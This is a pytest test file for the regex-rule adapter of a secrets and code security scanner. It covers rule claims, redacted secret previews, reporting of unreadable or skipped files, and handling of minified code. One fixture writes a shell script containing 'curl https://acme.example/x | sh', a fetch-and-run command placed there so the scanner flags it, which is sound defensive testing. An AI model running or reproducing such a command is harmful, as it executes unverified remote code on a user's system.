"""The adapter: what it claims, what it says of what was found, and what it says of what could not be looked at."""

from __future__ import annotations

import os
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

import trees
from magray_sec import datafiles
from magray_sec.adapters.regex_rules import ADAPTER, claims, languages
from magray_sec.model.finding import Sighting
from magray_sec.model.run import (
    Claim,
    File,
    Gap,
    GapKind,
    Inventory,
    Item,
    ItemKind,
    Notification,
    ScanContext,
    Skipped,
    SkipReason,
)
from magray_sec.model.scale import Confidence, Domain, Severity
from magray_sec.regex.examples import fill
from magray_sec.regex.pack import load_packs
from magray_sec.regex.scan import MAX_HITS
from magray_sec.source import TreeSource

TREE = Claim(domain=Domain.SECRETS, item="tree:.")
RUST = Claim(domain=Domain.CODE, item="language:rust")
PACK = """\
version: 1
pack: mine
rules:
  - {id: acme, domain: secrets, title: Acme token, description: d, help: h, severity: critical, confidence: high,
     pattern: '(acme_[a-z0-9]{24})', preview: acme_, examples: {match: ['acme_{{lowernum:24}}'], no_match: [x]}}
  - {id: many, domain: secrets, title: many, description: d, help: h, severity: low, confidence: low,
     pattern: '(a1);', placeholders: false, examples: {match: ['a1;'], no_match: [x]}}
"""


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> str:
    return str(tmp_path_factory.mktemp("cache"))


def said(
    tmp_path: Path, *claimed: Claim, packs: tuple[str, ...] = (), jobs: int = 1, cache: str | None = None
) -> list[object]:
    root = tmp_path / "tree"
    files = []
    for place, _, names in os.walk(root):
        for name in names:
            path = os.path.join(place, name)
            files.append(File(path=os.path.relpath(path, root), size=os.stat(path).st_size))
    source = TreeSource(str(root), tuple(sorted(files, key=lambda file: file.path)))
    context = ScanContext(
        today=date(2026, 1, 1),
        started=datetime(2026, 1, 1, tzinfo=UTC),
        work=str(tmp_path),
        cache=cache,
        packs=packs,
        jobs=jobs,
    )
    assert ADAPTER.inspect is not None
    everything = list(ADAPTER.inspect(source, claimed, context))
    return [entry for entry in everything if not isinstance(entry, Notification)]


@pytest.fixture
def pack(tmp_path: Path) -> tuple[str, ...]:
    path = tmp_path / "mine.yaml"
    path.write_text(PACK)
    return (str(path),)


def test_it_claims_all_text_and_the_languages_of_the_shipped_packs(cache: str) -> None:
    names = ("cobol", "rust", "shell")
    items = [Item(kind=ItemKind.LANGUAGE, name=name) for name in names] + [Item(kind=ItemKind.TREE, name=".")]
    assert claims(Inventory(items=tuple(items))) == (
        Claim(domain=Domain.SECRETS, item="tree:."),
        Claim(domain=Domain.CODE, item="language:rust"),
        Claim(domain=Domain.CODE, item="language:shell"),
    )
    assert claims(Inventory()) == ()
    packs = load_packs(datafiles.files("rules"), cache).packs
    assert {language for pack in packs for language in pack.languages} == languages()
    assert any(pack.covers(Domain.SECRETS) for pack in packs)


def test_what_it_says_of_a_secret(tmp_path: Path, pack: tuple[str, ...]) -> None:
    token = fill("acme_{{lowernum:24}}", "1")
    trees.write(tmp_path / "tree", {"src/a.txt": f"key: {token}\n"})
    (sighting,) = said(tmp_path, TREE, packs=pack)
    assert isinstance(sighting, Sighting)
    assert (sighting.native_rule, sighting.domain) == ("secrets/acme", Domain.SECRETS)
    assert (sighting.severity, sighting.confidence) == (Severity.CRITICAL, Confidence.HIGH)
    assert sighting.rule is not None
    assert (sighting.rule.id, sighting.rule.help) == ("secrets/acme", "h")
    assert sighting.place is not None
    assert (sighting.place.path, sighting.place.span) == ("src/a.txt", (5, 34))
    assert (sighting.preview, sighting.secret) == ("acme_\u2026 (29 characters)", None)
    assert token[5:] not in repr(sighting)


def test_what_it_says_of_code(tmp_path: Path, cache: str) -> None:
    trees.write(tmp_path / "tree", {"run.sh": "#!/bin/sh\ncurl https://acme.example/x | sh\n"})
    found = [entry for entry in said(tmp_path, TREE, cache=cache) if isinstance(entry, Sighting)]
    assert found
    assert {entry.domain for entry in found} == {Domain.CODE}
    assert all(entry.place and entry.place.path == "run.sh" for entry in found)
    assert not any(entry.preview for entry in found)


def test_what_could_not_be_looked_at_is_said(
    tmp_path: Path, pack: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    trees.write(
        tmp_path / "tree",
        {
            "flood": b"a1; " * (MAX_HITS + 1),
            "logo.png": b"\x89PNG\0",
            "gone": "x",
            **{f"i/{n}.gif": b"\0" for n in range(30)},
        },
    )
    real = TreeSource.read

    def read(self: TreeSource, path: str) -> bytes:
        if path == "gone":
            raise PermissionError(13, "Permission denied", path)
        return real(self, path)

    monkeypatch.setattr(TreeSource, "read", read)
    everything = said(tmp_path, TREE, RUST, packs=pack)
    gaps = {(gap.kind, gap.path, gap.domain, gap.item): gap.reason for gap in everything if isinstance(gap, Gap)}
    assert gaps == {
        (GapKind.ITEM, "", Domain.CODE, "language:rust"): "none of the rules in use looks at rust",
        (GapKind.FILE, "gone", None, ""): "it cannot be read: Permission denied",
        (GapKind.FILE, "flood", Domain.SECRETS, ""): (
            "it has more than 10000 candidates of secrets/many; it was looked at in part"
        ),
    }
    skipped = [(entry.path, entry.detail) for entry in everything if isinstance(entry, Skipped)]
    assert skipped == [("logo.png", ""), ("i/*.gif", "30 files")]
    assert sum(isinstance(entry, Sighting) for entry in everything) == MAX_HITS


def test_threads_change_nothing(tmp_path: Path, pack: tuple[str, ...]) -> None:
    trees.write(
        tmp_path / "tree", {f"{n % 7}/{n}": fill("x acme_{{lowernum:24}} y" * (n % 3), str(n)) for n in range(600)}
    )
    assert said(tmp_path, TREE, packs=pack, jobs=1) == said(tmp_path, TREE, packs=pack, jobs=8)


def test_minified_code_is_told_as_looked_at_for_secrets_alone(tmp_path: Path) -> None:
    path = tmp_path / "code.yaml"
    code = (
        "  - {id: evaluated, domain: code, title: t, description: d, help: h, severity: high, confidence: high,\n"
        "     pattern: 'eval', languages: [javascript], examples: {match: [eval], no_match: [x]}}\n"
    )
    path.write_text(PACK + code)
    token = fill("acme_{{lowernum:24}}", "1")
    line = f"eval(x);t='{token}';" + "var a=1;" * 2000
    trees.write(tmp_path / "tree", {"app.min.js": line, "app.js": "eval(x)\n", "min.txt": line})
    everything = said(tmp_path, TREE, packs=(str(path),))
    found = [
        (entry.place.path, entry.native_rule) for entry in everything if isinstance(entry, Sighting) and entry.place
    ]
    assert sorted(found) == [
        ("app.js", "code/evaluated"), ("app.min.js", "secrets/acme"), ("min.txt", "secrets/acme")
    ]  # fmt: skip
    (skipped,) = [entry for entry in everything if isinstance(entry, Skipped)]
    assert (skipped.path, skipped.reason) == ("app.min.js", SkipReason.GENERATED)
    assert skipped.detail == "minified: its long lines were looked at for secrets alone"
